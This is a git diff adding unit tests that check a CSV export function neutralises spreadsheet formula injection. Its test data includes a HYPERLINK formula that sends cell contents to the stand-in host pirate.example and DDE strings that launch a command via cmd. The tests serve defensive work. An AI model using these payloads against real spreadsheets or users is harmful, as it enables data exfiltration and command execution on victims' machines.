@@ -1,5 +1,5 @@
 import { describe, expect, it, vi } from 'vitest';
-import { buildCsv, csvDate, csvField, csvFileName, csvNumber, fetchAllPages, totalsByCurrency } from '../../src/domain/csvExport';
+import { buildCsv, csvAmount, csvDate, csvField, csvFileName, csvNumber, fetchAllPages, totalsByCurrency } from '../../src/domain/csvExport';
 
 interface Row {
   numero: string;
@@ -65,6 +65,45 @@ describe('CSV cells', () => {
     expect(csvDate('2025-03-04T09:05:00', false)).toBe('04/03/2025');
     expect(csvDate('pas une date')).toBe('');
     expect(csvFileName('caisse', new Date(2025, 2, 4))).toBe('caisse_2025-03-04.csv');
+  });
+});
+
+describe('CSV formula injection (OWASP): a text never becomes a formula', () => {
+  it.each([
+    ['=', '=HYPERLINK("http://pirate.example/?v="&A1;"Cliquez")', `"'=HYPERLINK(""http://pirate.example/?v=""&A1;""Cliquez"")"`],
+    ['+', '+1+cmd|\' /C calc\'!A0', `"'+1+cmd|' /C calc'!A0"`],
+    ['-', '-2+3', `"'-2+3"`],
+    ['@', '@SUM(1+1)*cmd|\' /C calc\'!A0', `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
+    ['tab', '\t=1+1', `"'\t=1+1"`],
+    ['carriage return', '\r=1+1', `"'\r=1+1"`],
+  ])('a cell starting with %s gets a leading quote and is quoted', (_name, text, expected) => {
+    expect(csvField(text)).toBe(expected);
+  });
+
+  it('a sender named =HYPERLINK(…) stays text in the whole file, and a telephone starting with + is not summed either', () => {
+    const text = buildCsv({
+      columns: [
+        { header: 'Expéditeur', value: (r: { nom: string; tel: string }) => r.nom },
+        { header: 'Téléphone', value: (r: { nom: string; tel: string }) => r.tel },
+      ],
+      rows: [{ nom: '=HYPERLINK("http://pirate.example";"Voir")', tel: '+224 620 00 00 00' }],
+    });
+    expect(text.slice(1).split('\r\n')[1]).toBe(`"'=HYPERLINK(""http://pirate.example"";""Voir"")";"'+224 620 00 00 00"`);
+  });
+
+  it('a negative amount written as a number stays a number; the same characters typed as text are neutralised', () => {
+    expect(csvField(csvAmount(-12.5, 'CAD'))).toBe('-12,50');
+    expect(csvField(csvAmount(-625000, 'GNF'))).toBe('-625000');
+    expect(csvField(-3.5)).toBe('-3,5');
+    expect(csvField(csvNumber(-0.25, 2))).toBe('-0,25');
+    expect(csvField('-12,50')).toBe(`"'-12,50"`);
+  });
+
+  it('ordinary texts are left as they are (a dash inside, a leading space, accents)', () => {
+    expect(csvField('Jean-Pierre')).toBe('Jean-Pierre');
+    expect(csvField(' =pas en tête')).toBe(' =pas en tête');
+    expect(csvField('Espèces')).toBe('Espèces');
+    expect(csvField('')).toBe('');
   });
 });
 
